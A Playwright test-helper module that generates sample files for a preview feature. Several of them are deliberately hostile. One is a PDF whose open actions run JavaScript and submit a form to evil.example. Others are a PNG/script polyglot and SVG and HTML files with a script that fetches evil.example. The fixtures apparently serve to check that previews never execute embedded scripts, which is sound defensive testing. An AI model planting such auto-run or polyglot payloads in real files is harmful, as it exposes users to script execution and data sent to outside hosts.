import type { Locator } from '@playwright/test';
import sharp from 'sharp';

interface Sample {
  name: string;
  mimeType: string;
  buffer: Buffer;
}

/** A PDF of three pages that asks for a script, an address and a form to be run as it is opened. */
function hostilePdf(): Buffer {
  const action = `<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("https://evil.example/"\\))>>`;
  const stream = 'BT /F1 48 Tf 60 700 Td (Page of a contract) Tj ET 60 400 300 100 re f';
  const objects = [
    `<</Type/Catalog/Pages 2 0 R/OpenAction ${action}/AA<</WC ${action}>>>>`,
    '<</Type/Pages/Kids[3 0 R 4 0 R 5 0 R]/Count 3>>',
    ...[0, 1, 2].map(
      () =>
        `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 6 0 R/Resources<</Font<</F1 7 0 R>>>>/AA<</O ${action}>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(https://evil.example/)>>>>]>>`,
    ),
    `<</Length ${stream.length}>>stream\n${stream}\nendstream`,
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
  ];
  let text = '%PDF-1.7\n';
  const places = objects.map((object, index) => {
    const place = text.length;
    text += `${index + 1} 0 obj${object}endobj\n`;
    return place;
  });
  const start = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const place of places) text += `${String(place).padStart(10, '0')} 00000 n \n`;
  text += `trailer<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${start}\n%%EOF`;
  return Buffer.from(text, 'latin1');
}

/** One second of silence. */
function sound(): Buffer {
  const [rate, head] = [8000, Buffer.alloc(44)];
  head.write('RIFF');
  head.writeUInt32LE(36 + rate, 4);
  head.write('WAVEfmt ', 8);
  head.writeUInt32LE(16, 16);
  head.writeUInt16LE(1, 20);
  head.writeUInt16LE(1, 22);
  head.writeUInt32LE(rate, 24);
  head.writeUInt32LE(rate, 28);
  head.writeUInt16LE(1, 32);
  head.writeUInt16LE(8, 34);
  head.write('data', 36);
  head.writeUInt32LE(rate, 40);
  return Buffer.concat([head, Buffer.alloc(rate, 128)]);
}

/** «Веранда» in Windows-1251. */
const VERANDA = [0xc2, 0xe5, 0xf0, 0xe0, 0xed, 0xe4, 0xe0];
const SCRIPT = '<script>globalThis.wasRun = true; fetch("https://evil.example/")</script>';

/** A file of each kind that is shown, and some that would run a script if a browser were given them. */
export async function filesToLookAt(): Promise<Sample[]> {
  const picture = { width: 600, height: 400, channels: 3, background: '#2a6' } as const;
  const png = await sharp({ create: picture }).png().toBuffer();
  const contents: Record<string, Buffer> = {
    'договор.pdf': hostilePdf(),
    // A picture and a page at once.
    'фото.png': Buffer.concat([png, Buffer.from(SCRIPT)]),
    'замеры.csv': Buffer.concat([Buffer.from('A;B\n'), Buffer.from(VERANDA), Buffer.from(';2')]),
    'запись.wav': sound(),
    'рисунок.svg': Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
    'страница.html': Buffer.from(SCRIPT),
  };
  return Object.entries(contents).map(([name, buffer]) => ({
    name,
    mimeType: 'application/octet-stream',
    buffer,
  }));
}

/** How many dots of a canvas are dark. */
export const inkOf = (canvas: Locator): Promise<number> =>
  canvas.evaluate((element) => {
    const { width, height } = element as HTMLCanvasElement;
    const data = (element as HTMLCanvasElement)
      .getContext('2d')
      ?.getImageData(0, 0, width, height).data;
    return (data ?? []).filter((value, at) => at % 4 === 0 && value < 64).length;
  });

/** How long a sound is; NaN until that is known. */
export const secondsOf = (player: Locator): Promise<number> =>
  player.evaluate((element) => (element as HTMLMediaElement).duration);
